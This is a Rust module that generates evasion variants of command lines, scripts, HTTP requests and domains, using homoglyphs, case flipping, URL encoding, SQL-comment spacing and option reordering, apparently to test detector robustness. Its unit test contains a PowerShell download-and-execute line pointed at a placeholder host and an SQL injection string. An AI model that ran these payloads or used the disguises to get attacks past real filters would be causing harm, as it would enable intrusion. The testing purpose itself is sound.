//! Disguises of texts. Nothing is run: a disguise is a string, and whether it still does what it did is the honest limit of
//! these figures; for command lines and scripts the disguises keep the meaning, for domains and requests nearly.

use crate::random::Random;
use crate::text::TextKind;
use crate::text::command::mutate as command;
use crate::text::script::mutate as script;

/// Letters that look like Latin ones.
const HOMOGLYPHS: [(char, char); 8] =
    [('a', 'а'), ('e', 'е'), ('o', 'о'), ('c', 'с'), ('p', 'р'), ('x', 'х'), ('i', 'і'), ('s', 'ѕ')];

/// Ordinary words that pad.
const WORDS: [&str; 8] = ["report", "invoice", "status", "update", "backup", "session", "language", "summary"];

/// Names of the disguises that fit a kind of text.
pub fn names(kind: TextKind) -> Vec<&'static str> {
    let mut out: Vec<&'static str> = match kind {
        TextKind::Command => command::Mutation::ALL.iter().map(|one| one.name()).collect(),
        TextKind::Script => script::Mutation::ALL.iter().map(|one| one.name()).collect(),
        TextKind::Http => {
            vec!["case", "percent", "double_percent", "plus", "comment", "padding_before", "padding_after", "tab"]
        }
        TextKind::Domain => vec!["case", "dot", "padding", "hyphen", "word_before", "word_after", "digit"],
    };
    if matches!(kind, TextKind::Command | TextKind::Script) {
        out.push("argument_order");
    }
    out.push("homoglyph");
    out
}

/// A text in disguise; what does not apply leaves it as it is.
pub fn disguise(kind: TextKind, text: &str, name: &str, random: &mut Random) -> String {
    match (kind, name) {
        (_, "homoglyph") => homoglyphs(text, random),
        (TextKind::Command | TextKind::Script, "argument_order") => reordered(text),
        (TextKind::Command, _) => match command::Mutation::ALL.into_iter().find(|one| one.name() == name) {
            Some(how) => command::mutate(text, how, random),
            None => text.to_owned(),
        },
        (TextKind::Script, _) => match script::Mutation::ALL.into_iter().find(|one| one.name() == name) {
            Some(how) => script::mutate(text, how, random),
            None => text.to_owned(),
        },
        (TextKind::Http, _) => http(text, name, random),
        (TextKind::Domain, _) => domain(text, name, random),
    }
}

fn homoglyphs(text: &str, random: &mut Random) -> String {
    let swap = |letter: char| HOMOGLYPHS.iter().find(|(own, _)| *own == letter).map(|(_, other)| *other);
    text.chars().map(|letter| swap(letter).filter(|_| random.unit() < 0.3).unwrap_or(letter)).collect()
}

/// The last two options change places, where both are single words.
fn reordered(text: &str) -> String {
    let words: Vec<&str> = text.split(' ').collect();
    let options: Vec<usize> = words
        .iter()
        .enumerate()
        .filter(|(at, word)| {
            *at > 0 && word.len() > 1 && word.starts_with(['-', '/']) && !word.contains(['"', '\'', ':', '='])
        })
        .map(|(at, _)| at)
        .collect();
    // Only options that stand side by side: neither then takes the other's value with it.
    let pair = options.windows(2).rev().find_map(|pair| match pair {
        [a, b] if a + 1 == *b => Some((*a, *b)),
        _ => None,
    });
    let Some((a, b)) = pair else { return text.to_owned() };
    let mut words = words;
    words.swap(a, b);
    words.join(" ")
}

fn cased(text: &str, random: &mut Random) -> String {
    let mut flip =
        |letter: char| if random.unit() < 0.5 { letter.to_ascii_uppercase() } else { letter.to_ascii_lowercase() };
    text.chars().map(&mut flip).collect()
}

fn http(text: &str, name: &str, random: &mut Random) -> String {
    let percent = |text: &str, mark: &str| -> String {
        let mut out = String::with_capacity(text.len() * 3);
        for byte in text.bytes() {
            if byte.is_ascii_alphanumeric() {
                out.push(char::from(byte));
            } else {
                out.push_str(&format!("{mark}{byte:02X}"));
            }
        }
        out
    };
    let word = WORDS.get(random.below(WORDS.len())).copied().unwrap_or_default();
    match name {
        "case" => cased(text, random),
        "percent" => percent(text, "%"),
        "double_percent" => percent(text, "%25"),
        "plus" => text.replace(' ', "+"),
        "comment" => text.replace(' ', "/**/"),
        "tab" => text.replace(' ', "\t"),
        "padding_before" => format!("{word}={word}&{text}"),
        "padding_after" => format!("{text}&{word}={word}"),
        _ => text.to_owned(),
    }
}

fn domain(text: &str, name: &str, random: &mut Random) -> String {
    let word = WORDS.get(random.below(WORDS.len())).copied().unwrap_or_default();
    let (head, rest) = text.split_once('.').map_or((text, String::new()), |(head, rest)| (head, format!(".{rest}")));
    match name {
        "case" => cased(text, random),
        "dot" => format!("{text}."),
        "padding" => format!("www.{text}"),
        "hyphen" => {
            let middle = head.char_indices().map(|(at, _)| at).nth(head.chars().count() / 2).unwrap_or(0);
            let (left, right) = head.split_at_checked(middle).unwrap_or((head, ""));
            if left.is_empty() || right.is_empty() { text.to_owned() } else { format!("{left}-{right}{rest}") }
        }
        "word_before" => format!("{word}{head}{rest}"),
        "word_after" => format!("{head}{word}{rest}"),
        "digit" => format!("{head}{}{rest}", random.below(10)),
        _ => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disguises_change_texts_and_never_lose_them() {
        for (kind, text) in [
            (TextKind::Command, "powershell -nop -w hidden -c iex(iwr http://x.test/a)"),
            (TextKind::Script, "$a = Get-Process; Invoke-Expression $a"),
            (TextKind::Http, "id=1' or 1=1 -- -"),
            (TextKind::Domain, "qwkjehqkwjeh.example.com"),
        ] {
            let all = names(kind);
            let changed = all.iter().filter(|name| disguise(kind, text, name, &mut Random::new(1)) != text).count();
            assert!(changed * 2 >= all.len(), "{kind:?}: {changed} of {}", all.len());
            for name in &all {
                assert!(!disguise(kind, "", name, &mut Random::new(1)).contains('\0'));
                disguise(kind, "é\u{0}\"'`%^$(", name, &mut Random::new(1));
            }
        }
        assert_eq!(reordered("cmd /q /c dir"), "cmd /c /q dir");
        assert_eq!(http("a b", "comment", &mut Random::new(1)), "a/**/b");
    }
}
